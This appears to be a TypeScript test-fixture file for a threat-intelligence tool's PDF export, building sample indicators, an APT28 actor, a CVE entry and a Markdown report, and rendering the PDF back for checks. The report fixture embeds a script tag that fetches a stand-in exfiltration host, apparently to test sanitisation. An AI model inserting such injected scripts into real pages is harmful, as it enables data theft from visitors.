import { Writable } from 'node:stream'
import type { Indicator } from '#shared/contract/indicators.contract'
import type { IntelEntity, ThreatReport } from '#shared/contract/intel.schemas'
import type { ExportSet, ExportStats } from '#core/export/export-set'
import { type RenderPdfOptions, type RenderPdfResult, renderPdf } from '#core/export/pdf/render-pdf'

const T0 = '2026-11-20T08:00:00.000Z'

let seq = 0
const uuid = (): string => {
  seq++
  return `00000000-0000-4000-8000-${seq.toString(16).padStart(12, '0')}`
}

export const indicator = (
  over: Partial<Indicator> & Pick<Indicator, 'type' | 'value'>,
): Indicator => ({
  id: uuid(),
  classification: 'malicious',
  confidence: 70,
  severity: 'high',
  score: 80,
  riskLevel: 'high',
  tlp: 'amber',
  firstSeen: T0,
  lastSeen: '2026-11-28T10:00:00.000Z',
  description: '',
  tags: [],
  mitreTactics: [],
  mitreTechniques: [],
  active: true,
  falsePositive: false,
  enrichment: null,
  projectId: null,
  sourceCount: 2,
  sightingCount: 3,
  expired: false,
  createdAt: T0,
  updatedAt: T0,
  ...over,
})

const common = {
  aliases: [],
  description: '',
  projectId: null,
  tlp: 'amber' as const,
  severity: null,
  confidence: null,
  firstSeen: null,
  lastSeen: null,
  techniques: [],
  sources: [],
  stixId: null,
  createdAt: T0,
  updatedAt: T0,
}

export const actor = (name: string, over: Partial<IntelEntity> = {}): IntelEntity =>
  ({
    ...common,
    id: uuid(),
    kind: 'threat-actor',
    name,
    details: {
      actorType: 'apt',
      originCountry: 'RU',
      motivation: 'espionage',
      sophistication: 'expert',
      tactics: ['TA0001'],
      tools: ['X-Agent', 'Zebrocy'],
      targetSectors: ['government'],
      targetCountries: ['UA', 'DE'],
    },
    ...over,
  }) as IntelEntity

export const vulnerability = (cve: string): IntelEntity => ({
  ...common,
  id: uuid(),
  kind: 'vulnerability',
  name: cve,
  tlp: 'clear',
  details: {
    cveId: cve,
    cvssScore: 10,
    cvssSeverity: 'critical',
    affectedProducts: [{ product: 'PAN-OS', versions: ['10.2', '11.0'] }],
    exploitAvailable: true,
    exploitedInTheWild: true,
    exploitReferences: [],
    patchAvailable: true,
    patchReferences: ['https://security.paloaltonetworks.com/CVE-2024-3400'],
    workarounds: '',
    publishedAt: '2024-04-12T00:00:00.000Z',
    discoveredAt: null,
  },
})

export const threatReport = (name: string, content: string): ThreatReport => ({
  ...common,
  id: uuid(),
  kind: 'report',
  name,
  severity: 'high',
  details: {
    summary: 'What the spring campaign did.',
    content,
    published: true,
    publishedAt: '2026-12-01T09:00:00.000Z',
    authors: ['Ana Analyst', 'Rui Responder'],
  },
})

/** Stats computed from the indicators the way the export domain's SQL does. */
export const statsOf = (rows: readonly Indicator[]): ExportStats => {
  const byType: Record<string, number> = {}
  const bySeverity: Record<string, number> = {}
  const scoreBuckets = Array.from({ length: 10 }, () => 0)
  const days = new Map<string, number>()
  for (const r of rows) {
    byType[r.type] = (byType[r.type] ?? 0) + 1
    bySeverity[r.severity] = (bySeverity[r.severity] ?? 0) + 1
    const b = Math.min(Math.floor(r.score / 10), 9)
    scoreBuckets[b] = (scoreBuckets[b] ?? 0) + 1
    if (r.firstSeen !== null) {
      const d = r.firstSeen.slice(0, 10)
      days.set(d, (days.get(d) ?? 0) + 1)
    }
  }
  const timeline = [...days]
    .sort((a, b) => a[0].localeCompare(b[0]))
    .map(([day, count]) => ({ day, count }))
  return { byType, bySeverity, scoreBuckets, timeline }
}

/** An ExportSet over in-memory indicators, read in pages through an async generator like the real one. */
export const exportSet = (
  rows: readonly Indicator[],
  over: Partial<ExportSet> = {},
): ExportSet => ({
  title: 'Indicators: score ≥ 80',
  summary: 'Every indicator scored 80 or more in the Default project.',
  markdown: null,
  tlp: 'amber',
  tlpCounts: { amber: rows.length },
  generatedAt: '2026-12-03T20:00:00.000Z',
  report: null,
  entities: [],
  relationships: [],
  indicatorCount: rows.length,
  stats: statsOf(rows),
  indicators: async function* () {
    for (let i = 0; i < rows.length; i += 500) {
      await Promise.resolve()
      yield rows.slice(i, i + 500)
    }
  },
  ...over,
})

export const REPORT_MD = `# Overview

APT28 used **new infrastructure** and *fresh* lures; see [the advisory](https://advisories.example/apt28).

- first finding
- second finding with \`code\`

> Quoted from the vendor.

| Feed | Indicators | Cadence |
|---|---:|---|
| abuse.ch URLhaus | 1200 | daily |
| AlienVault OTX | 33 | hourly |

![diagram of the kill chain](https://img.example/kill-chain.png)

<script>fetch('https://exfil.example/')</script>
`

export const reportRows = (): Indicator[] => [
  indicator({
    type: 'url',
    value: 'https://evil.example.com/gate.php',
    score: 97,
    severity: 'critical',
  }),
  indicator({ type: 'domain', value: 'пример.рф', score: 90 }),
  indicator({ type: 'domain', value: 'مثال.إختبار', score: 85, severity: 'medium' }),
  indicator({ type: 'domain', value: '例子.测试', score: 80, severity: 'low' }),
  indicator({ type: 'ip', value: '203.0.113.7', score: 70, severity: 'info' }),
  indicator({ type: 'email', value: 'payroll@phish.example.org', score: 60 }),
  indicator({ type: 'sha256', value: 'a'.repeat(64), score: 50 }),
]

/** A threat report with Markdown, entities and IDN values in three scripts. */
export const reportSet = (over: Partial<ExportSet> = {}): ExportSet =>
  exportSet(reportRows(), {
    title: 'APT28 spring campaign',
    summary: 'Infrastructure and lures seen in the spring campaign.',
    markdown: REPORT_MD,
    entities: [
      actor('APT28', {
        aliases: ['Fancy Bear', 'Sofacy'],
        description: 'A Russian espionage actor.',
      }),
      vulnerability('CVE-2024-3400'),
    ],
    ...over,
  })

/** A Writable that keeps what it is given. */
export const sink = (): { out: Writable; bytes: () => Buffer } => {
  const chunks: Buffer[] = []
  const out = new Writable({
    write(chunk: Buffer, _enc, cb) {
      chunks.push(chunk)
      cb()
    },
  })
  return { out, bytes: () => Buffer.concat(chunks) }
}

export const render = async (
  set: ExportSet,
  opts: RenderPdfOptions = { defang: true },
): Promise<{ pdf: Buffer; result: RenderPdfResult }> => {
  const { out, bytes } = sink()
  const result = await renderPdf(set, out, opts)
  return { pdf: bytes(), result }
}

type PdfjsDoc = Awaited<
  ReturnType<(typeof import('pdfjs-dist/legacy/build/pdf.mjs'))['getDocument']>['promise']
>

/** Opens a PDF with PDF.js's legacy build, the way src/main/core/extract reads PDFs. */
export const openPdf = async (pdf: Buffer): Promise<PdfjsDoc> => {
  const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs')
  return getDocument({
    data: new Uint8Array(pdf),
    isEvalSupported: false,
    useSystemFonts: false,
    verbosity: 0,
  }).promise
}

/**
 * Each page's text as PDF.js extracts it (items joined, a newline where PDF.js sees a line end); `only` picks
 * some pages (1-based; negative counts from the end) in a long document.
 */
export const pageTexts = async (pdf: Buffer, only?: readonly number[]): Promise<string[]> => {
  const doc = await openPdf(pdf)
  try {
    const pages: string[] = []
    const wanted =
      only === undefined
        ? Array.from({ length: doc.numPages }, (_, i) => i + 1)
        : only.map((n) => (n < 0 ? doc.numPages + 1 + n : n))
    for (const p of wanted) {
      const page = await doc.getPage(p)
      const content = await page.getTextContent()
      let text = ''
      for (const item of content.items) {
        if ('str' in item) text += item.str + (item.hasEOL ? '\n' : '')
      }
      pages.push(text)
      page.cleanup()
    }
    return pages
  } finally {
    await doc.destroy()
  }
}

type Canvas = { toBuffer: (mime: 'image/png') => Buffer }
type Context2d = {
  getImageData: (x: number, y: number, w: number, h: number) => { data: Uint8ClampedArray }
}
export type PageImage = {
  png: Buffer
  width: number
  height: number
  /** RGBA bytes, row by row. */
  data: Uint8ClampedArray
}

/**
 * Renders every page to a PNG with PDF.js on the @napi-rs/canvas backend it ships for Node (its optional
 * dependency), with the pixels for assertions.
 */
export const pageImages = async (pdf: Buffer, scale = 1.5): Promise<PageImage[]> => {
  const doc = await openPdf(pdf)
  try {
    const factory = doc.canvasFactory as unknown as {
      create: (w: number, h: number) => { canvas: Canvas; context: Context2d }
    }
    const out: PageImage[] = []
    for (let p = 1; p <= doc.numPages; p++) {
      const page = await doc.getPage(p)
      const viewport = page.getViewport({ scale })
      const width = Math.ceil(viewport.width)
      const height = Math.ceil(viewport.height)
      const { canvas, context } = factory.create(width, height)
      await page.render({
        canvas: canvas as unknown as HTMLCanvasElement,
        canvasContext: context as unknown as CanvasRenderingContext2D,
        viewport,
      }).promise
      const data = context.getImageData(0, 0, width, height).data
      out.push({ png: canvas.toBuffer('image/png'), width, height, data })
      page.cleanup()
    }
    return out
  } finally {
    await doc.destroy()
  }
}
